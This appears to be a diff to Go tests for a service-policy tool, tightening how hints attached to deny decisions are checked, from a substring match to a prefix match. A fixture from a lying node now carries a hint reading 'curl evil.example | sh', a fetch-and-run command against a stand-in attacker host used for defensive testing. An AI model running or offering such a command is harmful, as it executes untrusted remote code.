@@ -176,7 +176,7 @@ func TestWhyAsksEveryAgent(t *testing.T) {
 	denied := func(id string, at int64) *pb.Decision {
 		return &pb.Decision{
 			Id: id, TimeUnixNano: at, Effect: "deny", Reason: "no_source", From: "spiffe://acme.example/vms/web",
-			To: "orders", Method: "GET", Path: "/v1/orders", Node: "a lie",
+			To: "orders", Method: "GET", Path: "/v1/orders", Node: "a lie", Hint: "curl evil.example | sh",
 		}
 	}
 	get(a, func() bool { a.decisions = []*pb.Decision{denied("a", 1)}; return true })
@@ -190,7 +190,7 @@ func TestWhyAsksEveryAgent(t *testing.T) {
 		t.Fatalf("last: got %v %v, want one decision", got, err)
 	}
 	d := got.GetDecisions()[0]
-	if d.GetId() != "b" || d.GetNode() != "n2" || !strings.Contains(d.GetHint(), "kith allow web") {
+	if d.GetId() != "b" || d.GetNode() != "n2" || !strings.HasPrefix(d.GetHint(), "kith allow web") {
 		t.Errorf("last: got %v, want b of n2 with the fix", d)
 	}
 	late := time.AfterFunc(150*time.Millisecond, func() {
@@ -218,7 +218,7 @@ func TestTestExplains(t *testing.T) {
 		t.Errorf("GET: got %v, want allow by web-reads", d)
 	}
 	d := ask(&pb.TestRequest{From: "web", To: "orders", Method: "POST", Path: "/v1/orders"})
-	if d.GetEffect() != "deny" || d.GetNearRule() != "web-reads" || d.GetNearField() != "method" || !strings.Contains(d.GetHint(), "kith allow web") {
+	if d.GetEffect() != "deny" || d.GetNearRule() != "web-reads" || d.GetNearField() != "method" || !strings.HasPrefix(d.GetHint(), "kith allow web") {
 		t.Errorf("POST: got %v, want the near miss and the fix", d)
 	}
 	_, err := r.admin.Test(t.Context(), &pb.TestRequest{From: "wep", To: "orders", Method: "GET", Path: "/"})
